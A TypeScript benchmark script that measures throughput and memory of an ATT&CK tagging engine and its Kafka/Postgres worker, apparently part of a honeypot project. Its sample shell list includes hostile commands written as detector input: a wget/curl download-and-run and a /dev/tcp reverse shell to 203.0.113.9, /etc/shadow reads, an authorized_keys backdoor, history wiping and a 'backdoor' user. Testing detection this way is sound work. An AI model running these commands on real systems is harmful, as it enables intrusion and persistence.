// Benchmark of ATT&CK tagging with the upstream rules (../shared, read as they are):
//  1. the matcher alone: sources/s and tags/s over the three shared corpora and over a shell
//     command mix (the regex-heavy path), median of repeated timed trials;
//  2. the ttp worker bundle standalone on Kafka + Postgres: idle RSS after start-up, then RSS
//     (max) and end-to-end tags/s while it tags a burst of log events and session ends.
// Starts a local Kafka (tools/kafka) unless KAFKA_BROKERS is set; uses a scratch database on
// the local Postgres. Run: npx tsx --conditions=@decnet/source tools/bench/ttp.ts [--json]
//        [--matcher-only] [--events N] [--trial-ms MS] [--ack commit|receive|both]
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { cpus, loadavg } from 'node:os';
import { join, resolve } from 'node:path';
import { performance } from 'node:perf_hooks';
import { EVENTS as CATALOGUE, silentLogger } from '@decnet/core';
import { testConfig } from '@decnet/core/testing';
import { attackers, migrate, openDatabase, ttp_tag } from '@decnet/db';
import { countRows, insertRows } from '@decnet/db/testing';
import { openKafkaTransport } from '@decnet/bus-kafka';
import { createScratchDatabase } from '@decnet/testing/postgres';
import { AttackCatalog, TtpEngine, loadRuleDirectory, parseCorpus, type TagSource } from '@decnet/ttp-engine';
import { WORKSPACE_ROOT, argValue, args, asJson } from './lib/args.js';
import { mib, rssKib } from './lib/measure.js';

const ROOT = WORKSPACE_ROOT;
const RULES = resolve(ROOT, '../shared/upstream-data/ttp-rules');
const CORPORA = resolve(ROOT, '../shared/upstream-data/ttp-corpus');
/** Length of one timed matcher trial. */
const TRIAL_MS = Number(argValue('--trial-ms') ?? 2_000);
/** Timed trials per workload; the median is reported. */
const TRIALS = 5;
/** Log events sent to the worker in the loaded phase (plus one session end per 10). */
const EVENTS = Number(argValue('--events') ?? 20_000);
/** Attacker rows (and source addresses) in the loaded phase. */
const ATTACKERS = 500;
/** How often worker memory and progress are sampled. */
const SAMPLE_MS = 250;
/** Acknowledgement modes measured (DECNET_TTP_ACK). */
const ACK_ARG = argValue('--ack') ?? 'both';
const ACKS = ACK_ARG === 'both' ? (['commit', 'receive'] as const) : ([ACK_ARG === 'commit' ? 'commit' : 'receive'] as const);
/** Idle settling time before the idle RSS is read. */
const SETTLE_MS = 5_000;

const log = (text: string): void => {
  if (!asJson) process.stderr.write(`${text}\n`);
};

/** A realistic shell mix: download-and-run, discovery, persistence, and a majority of benign lines. */
const COMMANDS = [
  'uname -a', 'cat /etc/passwd', 'cat /etc/shadow', 'whoami', 'id', 'w', 'ls -la', 'cd /tmp', 'pwd', 'ps aux',
  'wget http://203.0.113.9/bins/x86 -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x', 'curl -fsSL http://203.0.113.9/i.sh | sh',
  'echo "ssh-rsa AAAAB3Nza... k" >> ~/.ssh/authorized_keys', 'crontab -e', 'history -c', 'unset HISTFILE',
  'nproc', 'free -m', 'cat /proc/cpuinfo | grep name | head -n 1', 'ifconfig -a', 'netstat -tulpn', 'find / -perm -4000 2>/dev/null',
  'python3 -c "import pty;pty.spawn(\'/bin/bash\')"', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'sudo -l', 'lscpu', 'df -h',
  'echo hello', 'top -bn1', 'exit', 'cat notes.txt', 'vi /etc/hosts', 'apt-get update', 'useradd -m backdoor',
  'nmap -sV 10.0.0.0/24', 'ldapsearch -x -H ldap://dc01', 'redis-cli config set dir /root/.ssh', 'ip addr', 'last', 'uptime',
];

function corpusSources(): TagSource[] {
  return readdirSync(CORPORA)
    .filter((f) => f.endsWith('.jsonl'))
    .sort()
    .flatMap((f) => parseCorpus(readFileSync(join(CORPORA, f), 'utf8')).rows)
    .map((r, i) => ({ sourceKind: r.sourceKind, sourceId: `c${i}`, payload: r.payload }));
}

function commandSources(): TagSource[] {
  return COMMANDS.map((c, i) => ({ sourceKind: 'command', sourceId: `cmd${i}`, payload: { command_text: c, user: 'root' } }));
}

interface MatcherResult {
  workload: string;
  sources: number;
  tagsPerPass: number;
  sourcesPerSecond: number;
  tagsPerSecond: number;
}

function measure(engine: TtpEngine, workload: string, sources: TagSource[]): MatcherResult {
  const tagsPerPass = sources.reduce((n, s) => n + engine.tag(s).length, 0);
  for (let i = 0; i < 200; i++) for (const s of sources) engine.tag(s);
  const rates: number[] = [];
  for (let t = 0; t < TRIALS; t++) {
    let passes = 0;
    const started = performance.now();
    while (performance.now() - started < TRIAL_MS) {
      for (const s of sources) engine.tag(s);
      passes++;
    }
    rates.push((passes * sources.length) / ((performance.now() - started) / 1000));
  }
  rates.sort((a, b) => a - b);
  const sourcesPerSecond = rates[Math.floor(rates.length / 2)] as number;
  return { workload, sources: sources.length, tagsPerPass, sourcesPerSecond: Math.round(sourcesPerSecond), tagsPerSecond: Math.round((sourcesPerSecond * tagsPerPass) / sources.length) };
}

interface WorkerResult {
  ack: string;
  idleRssMiB: number;
  loadedRssMaxMiB: number;
  events: number;
  tags: number;
  seconds: number;
  tagsPerSecond: number;
  eventsPerSecond: number;
}

async function measureWorker(engine: TtpEngine, ack: 'commit' | 'receive', brokers: string): Promise<WorkerResult> {
  const scratch = await createScratchDatabase();
  const database = await openDatabase(testConfig({ DATABASE_URL: scratch.url }), silentLogger, { retry: false, poolMax: 2 });
  const prefix = `bench-ttp-${ack}-${process.pid}-${Date.now().toString(36)}`;
  const transport = await openKafkaTransport({ brokers: brokers.split(','), prefix, instanceId: 'bench', log: silentLogger });
  let child: ChildProcess | undefined;
  try {
    await migrate(database.db, silentLogger);
    await insertRows(database, attackers, Array.from({ length: ATTACKERS }, (_, i) => ({ ip: `10.9.${Math.floor(i / 256)}.${i % 256}` })));
    child = spawn(process.execPath, [join(ROOT, 'dist/workers/ttp/main.js')], {
      cwd: ROOT,
      env: { ...process.env, DECNET_BUS: 'kafka', KAFKA_BROKERS: brokers, DECNET_KAFKA_PREFIX: prefix, DATABASE_URL: scratch.url, DECNET_TTP_RULES_DIR: RULES, DECNET_TTP_ACK: ack, DECNET_LOG_LEVEL: 'warn' },
      stdio: ['ignore', 'ignore', 'inherit'],
    });
    const pid = child.pid as number;
    const bus = transport.connect('bench');
    const count = (): Promise<number> => countRows(database, ttp_tag);
    // Wait for the worker's consumer groups: publish a probe session until its tag appears.
    const probe = { session_id: 'probe', attacker_ip: '10.9.0.0', decky_id: 'd', service: 'ssh', commands: [{ command_text: 'uname -a', ts: '2026-05-02T00:00:00.000Z' }] };
    const joinBy = Date.now() + 120_000;
    while ((await count()) === 0) {
      if (Date.now() > joinBy) throw new Error('the ttp worker never tagged the probe session');
      await bus.publish(CATALOGUE.attackerSessionEnded.subject, probe);
      await new Promise((r) => setTimeout(r, 1_000));
    }
    log(`worker joined; settling ${SETTLE_MS} ms for the idle reading...`);
    await new Promise((r) => setTimeout(r, SETTLE_MS));
    const idle: number[] = [];
    for (let i = 0; i < 8; i++) {
      idle.push(rssKib(pid));
      await new Promise((r) => setTimeout(r, SAMPLE_MS));
    }
    const baseline = await count();
    // The load: log-event commands (each a source), one session end with 5 commands per 10 events.
    let expected = 0;
    const events: { subject: string; payload: Record<string, unknown> }[] = [];
    for (let i = 0; i < EVENTS; i++) {
      const ip = `10.9.${Math.floor((i % ATTACKERS) / 256)}.${(i % ATTACKERS) % 256}`;
      const text = `${COMMANDS[i % COMMANDS.length] as string} # ${i}`;
      const time = new Date(Date.UTC(2026, 4, 2, 0, 0, 0, i)).toISOString();
      events.push({
        subject: CATALOGUE.logEvent.subject('ssh'),
        payload: { timestamp: time.slice(0, 19).replace('T', ' '), time, decky: 'decky-01', service: 'ssh', event_type: 'command', attacker_ip: ip, fields: { cmd: text, sid: `s${i}` }, msg: '', raw_line: '-' },
      });
      expected += engine.tag({ sourceKind: 'command', sourceId: `x${i}`, payload: { command_text: text } }).length;
      if (i % 10 === 0) {
        const commands = Array.from({ length: 5 }, (_, k) => ({ command_text: `${COMMANDS[(i + k * 7) % COMMANDS.length] as string} ; s${i}`, ts: new Date(Date.UTC(2026, 4, 3, 0, 0, 0, i * 5 + k)).toISOString() }));
        events.push({ subject: CATALOGUE.attackerSessionEnded.subject, payload: { session_id: `sess-${i}`, attacker_ip: ip, decky_id: 'decky-02', service: 'ssh', commands } });
        for (const c of commands) expected += engine.tag({ sourceKind: 'command', sourceId: 'y', payload: { command_text: c.command_text } }).length;
      }
    }
    log(`sending ${events.length} events (expecting ${expected} tags)...`);
    let rssMax = 0;
    const sampler = setInterval(() => (rssMax = Math.max(rssMax, rssKib(pid))), SAMPLE_MS);
    const started = performance.now();
    for (let i = 0; i < events.length; i += 500) {
      await Promise.all(events.slice(i, i + 500).map((e) => bus.publish(e.subject, e.payload, { key: String(e.payload.attacker_ip) })));
    }
    let done = 0;
    let lastChange = performance.now();
    while (done < expected) {
      await new Promise((r) => setTimeout(r, SAMPLE_MS));
      const now = (await count()) - baseline;
      if (now !== done) lastChange = performance.now();
      done = now;
      if (performance.now() - lastChange > 60_000) throw new Error(`stalled at ${done}/${expected} tags`);
    }
    const seconds = (performance.now() - started) / 1000;
    clearInterval(sampler);
    return {
      ack,
      idleRssMiB: mib(idle.reduce((a, b) => a + b, 0) / idle.length),
      loadedRssMaxMiB: mib(rssMax),
      events: events.length,
      tags: done,
      seconds: Math.round(seconds * 10) / 10,
      tagsPerSecond: Math.round(done / seconds),
      eventsPerSecond: Math.round(events.length / seconds),
    };
  } finally {
    if (child && child.exitCode === null) {
      child.kill('SIGTERM');
      await new Promise((r) => child?.once('exit', r));
    }
    await transport.close();
    await database.close();
    await scratch.drop();
  }
}

async function main(): Promise<void> {
  const attack = AttackCatalog.curated();
  const report = loadRuleDirectory(RULES, attack);
  if (report.errors.length > 0) throw new Error(report.errors.map((e) => e.message).join('\n'));
  const engine = new TtpEngine(report.rules, attack);
  log(`matcher: ${report.rules.length} rules, ${TRIALS} trials × ${TRIAL_MS} ms per workload...`);
  const matcher = [measure(engine, 'shared corpora (behavioral+email+intel)', corpusSources()), measure(engine, 'shell commands', commandSources())];
  const workers: WorkerResult[] = [];
  if (!args.includes('--matcher-only')) {
    log('bundling worker-ttp...');
    execFileSync(process.execPath, ['tools/bundle/bundle.mjs', '--quiet', 'worker-ttp'], { cwd: ROOT, stdio: 'inherit' });
    let stopKafka: (() => Promise<void>) | undefined;
    let brokers = process.env.KAFKA_BROKERS;
    if (!brokers) {
      log('starting a local Kafka...');
      const { startKafka } = await import('@decnet/tool-kafka');
      const broker = await startKafka({});
      brokers = broker.brokers.join(',');
      stopKafka = () => broker.stop();
    }
    try {
      for (const ack of ACKS) workers.push(await measureWorker(engine, ack, brokers));
    } finally {
      await stopKafka?.();
    }
  }
  const machine = { cpus: cpus().length, model: cpus()[0]?.model ?? '?', loadavg1: Math.round((loadavg()[0] ?? 0) * 100) / 100 };
  if (asJson) {
    process.stdout.write(`${JSON.stringify({ machine, matcher, workers }, null, 2)}\n`);
    return;
  }
  process.stdout.write(`machine: ${machine.cpus} × ${machine.model}, load ${machine.loadavg1}\n`);
  process.stdout.write('matcher workload                           sources  tags/pass  sources/s   tags/s\n');
  for (const m of matcher) {
    process.stdout.write(`${m.workload.padEnd(42)} ${String(m.sources).padEnd(8)} ${String(m.tagsPerPass).padEnd(10)} ${String(m.sourcesPerSecond).padEnd(11)} ${m.tagsPerSecond}\n`);
  }
  for (const w of workers) {
    process.stdout.write(
      `worker bundle, Kafka + Postgres, ack=${w.ack}: idle RSS ${w.idleRssMiB} MiB, loaded RSS max ${w.loadedRssMaxMiB} MiB; ` +
        `${w.events} events → ${w.tags} tags in ${w.seconds} s = ${w.eventsPerSecond} events/s, ${w.tagsPerSecond} tags/s end to end\n`,
    );
  }
}

await main();
